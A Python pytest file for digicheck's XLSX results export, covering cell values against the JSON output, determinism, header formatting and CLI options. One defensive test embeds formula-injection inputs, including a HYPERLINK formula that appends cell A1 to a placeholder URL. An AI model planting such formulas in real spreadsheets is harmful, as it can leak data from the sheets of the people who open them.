"""ergebnisse.xlsx (`bewerten --format xlsx`): opened in real LibreOffice, cells equal ergebnisse.json,
texts never become formulas, same result → same bytes, and the default formats stay as they were."""

from __future__ import annotations

import io
import json
import zipfile
from pathlib import Path

import pytest
from conftest import BEISPIELE
from office import als_csv, brauche_soffice

from digicheck.auswertung.export_xlsx import ergebnisse_xlsx


@pytest.fixture(scope="module")
def ergebnis():
    from digicheck.pipeline import analysiere_erhebung

    e, _ = analysiere_erhebung(BEISPIELE / "lemgo-2026")
    return e


@pytest.fixture(scope="module")
def mappe(tmp_path_factory, ergebnis):
    brauche_soffice()
    pfad = tmp_path_factory.mktemp("xlsx") / "ergebnisse.xlsx"
    pfad.write_bytes(ergebnisse_xlsx(ergebnis))
    return als_csv(pfad)


def _zahl(text: str) -> float | None:
    if text == "":
        return None
    if text.endswith("%"):
        return float(text[:-1]) / 100
    return float(text)


def _gleich(text: str, wert) -> bool:
    if wert is None:
        return text == ""
    if isinstance(wert, bool):
        return text == ("ja" if wert else "nein")
    if isinstance(wert, (int, float)):
        return _zahl(text) == pytest.approx(wert, abs=5e-4)
    return text == str(wert)


def _tabelle(blatt: list[list[str]]) -> list[dict[str, str]]:
    kopf = blatt[0]
    return [dict(zip(kopf, z, strict=True)) for z in blatt[1:]]


def test_libreoffice_liest_jedes_blatt(mappe):
    assert list(mappe) == sorted(["Übersicht", "Perspektiven", "Komponenten", "Fragen", "Vergleich", "Empfehlungen", "Fahrplan"])
    for name, zeilen in mappe.items():
        assert len(zeilen) >= 2, name


def test_zellen_wie_ergebnisse_json(mappe, ergebnis):
    d = json.loads(ergebnis.json_text())
    # Perspektiven, Komponenten, Fragen: every row, the score columns
    for blatt, liste, spalten in (
        ("Perspektiven", d["perspektiven"], {"ID": "id", "Punkte": "punkte", "Stufe": "stufe", "Abdeckung": "abdeckung"}),
        ("Komponenten", d["komponenten"], {"ID": "id", "Punkte": "punkte", "Innensicht": "punkte_innen", "Außensicht": "punkte_aussen",
                                           "Abdeckung": "abdeckung", "Unsicher": "unsicher", "Fragen gesamt": "fragen_gesamt"}),
        ("Fragen", d["fragen"], {"ID": "id", "Status": "status", "Punkte": "punkte", "Antworten": "n", "Spannweite": "spannweite",
                                 "Uneinig": "uneinig"}),
    ):
        zeilen = _tabelle(mappe[blatt])
        assert len(zeilen) == len(liste), blatt
        for z, x in zip(zeilen, liste, strict=True):
            for kopf, feld in spalten.items():
                assert _gleich(z[kopf], x[feld]), (blatt, x["id"], kopf, z[kopf], x[feld])
    komponenten = _tabelle(mappe["Komponenten"])
    for z, x in zip(komponenten, d["komponenten"], strict=True):
        v = x["vergleich"]
        assert _gleich(z["Median"], v["median"] if v else None) and _gleich(z["Klasse"], v["klasse"] if v else None)
        assert _gleich(z["Veränderung"], x["trend"]["veraenderung"] if x["trend"] else None)
    # Vergleich: Gesamt first, then every perspective and component with a comparison
    vergleich = _tabelle(mappe["Vergleich"])
    mit = [("GESAMT", d["gesamt"])] + [(x["id"], x) for x in d["perspektiven"] + d["komponenten"] if x["vergleich"]]
    assert [z["ID"] for z in vergleich] == [i for i, _ in mit]
    for z, (_, x) in zip(vergleich, mit, strict=True):
        assert _gleich(z["Perzentilrang"], x["vergleich"]["perzentilrang"]) and _gleich(z["n Vergleich"], x["vergleich"]["n"])
    # Empfehlungen and Fahrplan
    empf = _tabelle(mappe["Empfehlungen"])
    assert [z["ID"] for z in empf] == [x["id"] for x in d["empfehlungen"]["auswahl"]]
    for z, x in zip(empf, d["empfehlungen"]["auswahl"], strict=True):
        assert _gleich(z["Rang"], x["rang"]) and _gleich(z["Priorität"], x["prioritaet"]) and z["Titel"] == x["titel"]
        assert _gleich(z["Kosten von"], x["aufwand"]["kosten_eur"][0]) and _gleich(z["Beginn"], x["start"])
    plan = _tabelle(mappe["Fahrplan"])
    assert len(plan) == len(d["fahrplan"]["halbjahre"])
    for z, x in zip(plan, d["fahrplan"]["halbjahre"], strict=True):
        assert z["Halbjahr"] == x["halbjahr"] and _gleich(z["Personentage"], x["personentage"]) and _gleich(z["Auslastung"], x["auslastung"])
    uebersicht = {z[0]: z[1] for z in mappe["Übersicht"][1:]}
    assert uebersicht["Kommune"] == d["kommune"]["name"] and uebersicht["AGS"] == d["kommune"]["ags"]
    assert _gleich(uebersicht["Gesamtindex (Punkte)"], d["gesamt"]["punkte"])


def test_formel_im_namen_bleibt_text(tmp_path, ergebnis):
    brauche_soffice()
    boese = '=HYPERLINK("http://example.invalid/?"&A1;"klick")'
    e = ergebnis.model_copy(deep=True)
    e.kommune.name = boese
    e.komponenten[0].name = "+1+1"
    e.erhebung.berater = "@SUMME(A1:A2)"
    pfad = tmp_path / "ergebnisse.xlsx"
    pfad.write_bytes(ergebnisse_xlsx(e))
    with zipfile.ZipFile(pfad) as z:
        xml = "".join(z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/"))
    assert "<f>" not in xml               # no formula cell anywhere
    blaetter = als_csv(pfad)
    uebersicht = {z[0]: z[1] for z in blaetter["Übersicht"][1:]}
    assert uebersicht["Kommune"] == boese
    assert uebersicht["Beraterin / Berater"] == "@SUMME(A1:A2)"
    assert blaetter["Komponenten"][1][1] == "+1+1"


def test_deterministisch_und_fest_datiert(ergebnis):
    a, b = ergebnisse_xlsx(ergebnis), ergebnisse_xlsx(ergebnis.model_copy(deep=True))
    assert a == b
    with zipfile.ZipFile(io.BytesIO(a)) as z:
        assert {i.date_time[:3] for i in z.infolist()} == {tuple(int(x) for x in ergebnis.erhebung.stichtag.split("-"))}
        core = z.read("docProps/core.xml").decode("utf-8")
    assert f"{ergebnis.erhebung.stichtag}T12:00:00Z" in core


def test_kopf_fixiert_filter_und_formate(ergebnis):
    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(ergebnisse_xlsx(ergebnis)))
    for ws in wb.worksheets:
        assert ws.freeze_panes == "A2", ws.title
        assert ws.auto_filter.ref and ws.auto_filter.ref.startswith("A1:"), ws.title
        assert all(c.font.bold for c in ws[1] if c.value), ws.title
    k = wb["Komponenten"]
    assert k["D2"].number_format == "0.0" and k["I2"].number_format == "0.0%"
    assert wb["Empfehlungen"]["K2"].number_format.endswith('" €"')


def test_bewerten_xlsx_nur_auf_wunsch(cli, tmp_path):
    r = cli("bewerten", BEISPIELE / "lemgo-2026", "-o", tmp_path / "a", "--format", "json,xlsx")
    assert r.rc == 0, r.text
    assert sorted(p.name for p in (tmp_path / "a" / "lemgo-2026").iterdir()) == ["ergebnisse.json", "ergebnisse.xlsx"]
    from digicheck.pipeline import FORMATE_BEWERTEN

    assert "xlsx" not in FORMATE_BEWERTEN
    r = cli("bewerten", BEISPIELE / "lemgo-2026", "-o", tmp_path / "b", "--format", "xls")
    assert r.rc == 2 and "xlsx" in r.text and not (tmp_path / "b").exists()


def test_leere_empfehlungen_ohne_fehler(tmp_path, ergebnis):
    e = ergebnis.model_copy(deep=True)
    e.empfehlungen = None
    e.fahrplan = None
    pfad = Path(tmp_path) / "e.xlsx"
    pfad.write_bytes(ergebnisse_xlsx(e))
    from openpyxl import load_workbook

    wb = load_workbook(pfad)
    assert wb["Empfehlungen"].max_row == 1 and wb["Fahrplan"].max_row == 1
